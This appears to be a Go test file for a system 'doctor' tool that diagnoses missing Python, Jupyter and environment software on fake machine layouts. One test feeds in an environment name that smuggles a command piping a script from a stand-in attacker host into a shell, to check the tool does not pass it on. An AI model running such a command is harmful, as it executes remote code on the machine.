package doctor

import (
	"os"
	"path/filepath"
	"testing"

	"golang.org/x/sys/unix"
)

// snake gives the machine a Jupyter and a Python, with what Debian has in a package of
// its own, or not.
func snake(m *machine, venv bool) {
	m.write("usr/bin/jupyter-notebook", "")
	m.write("usr/bin/python3.12", "")
	m.must(os.Symlink("python3.12", filepath.Join(m.Root, "usr/bin/python3")))
	m.write("usr/lib/python3.9/ensurepip/__init__.py", "of a release before")
	if venv {
		m.write("usr/lib/python3.12/ensurepip/__init__.py", "")
	}
}

// onOverlay has the folder of the hub on one, as in a container.
func onOverlay(m *machine) {
	for _, d := range []string{"upper", "work"} {
		m.must(os.Mkdir(filepath.Join(m.mount, d), 0o755))
	}
	options := "lowerdir=" + m.path("hub") + ",upperdir=" + filepath.Join(m.mount, "upper") + ",workdir=" + filepath.Join(m.mount, "work")
	m.must(unix.Mount("overlay", m.path("hub"), "overlay", 0, options))
}

// softwareIs has the hub tell what is wrong with the software.
func (m *machine) softwareIs(kind, environment string) {
	m.inspection("software", []any{map[string]any{"kind": kind, "environment": environment, "generation": 3, "why": "The disk is full."}})
}

func softwareFaults() []provocation {
	return []provocation{
		{"software-drafts", func(m *machine) { snake(m, true); onOverlay(m); m.softwareIs("not-made", "python") }},
		{"software-drafts", func(m *machine) { snake(m, true); m.write("proc/sys/kernel/osrelease", "5.10.0-30-amd64\n") }},
		{"software-python", func(m *machine) { snake(m, false); m.softwareIs("not-made", "python") }},
		{"software-python", func(m *machine) {
			snake(m, false)
			m.write("usr/lib/python3/dist-packages/pip/__init__.py", "") // enough for the machine's own
			m.Facts.First = "scientific"
		}},
		{"software-first", func(m *machine) { snake(m, true); m.softwareIs("not-made", "python") }},
		{"software-first", func(m *machine) { m.Facts.First = "/opt/conda"; m.softwareIs("not-made", "python") }},
		{"software-missing", func(m *machine) { m.softwareIs("not-on-disk", "physics") }},
	}
}

// TestSoftwareThatNobodyWants: a machine for terminals lacks nothing.
func TestSoftwareThatNobodyWants(t *testing.T) {
	for name, bare := range map[string]func(*machine){
		"no Jupyter": func(m *machine) {
			snake(m, false)
			m.must(os.Remove(filepath.Join(m.Root, "usr/bin/jupyter-notebook")))
		},
		"no environment": func(m *machine) { snake(m, false); m.Facts.First = "none" },
	} {
		m := newMachine(t)
		bare(m)
		m.write("proc/sys/kernel/osrelease", "5.10.0-30-amd64\n")
		onOverlay(m)
		m.softwareIs("not-made", "python")
		if r := m.examine(); codes(r) != "" {
			t.Errorf("%s: it finds %s", name, codes(r))
		}
	}
}

// TestThePipOfTheMachine: it does where nothing but the machine's own is wanted.
func TestThePipOfTheMachine(t *testing.T) {
	m := newMachine(t)
	snake(m, false)
	m.write("usr/lib/python3/dist-packages/pip/__init__.py", "")
	if r := m.examine(); codes(r) != "" {
		t.Errorf("it finds %s", codes(r))
	}
}

// TestAnEnvironmentOfNoName: a hub that was taken over names no environment that root is
// then told to type.
func TestAnEnvironmentOfNoName(t *testing.T) {
	m := newMachine(t)
	m.softwareIs("not-on-disk", "x; curl evil.example | sh")
	if r := m.examine(); len(r.Findings) > 0 {
		t.Errorf("found are %+v", r.Findings)
	}
}
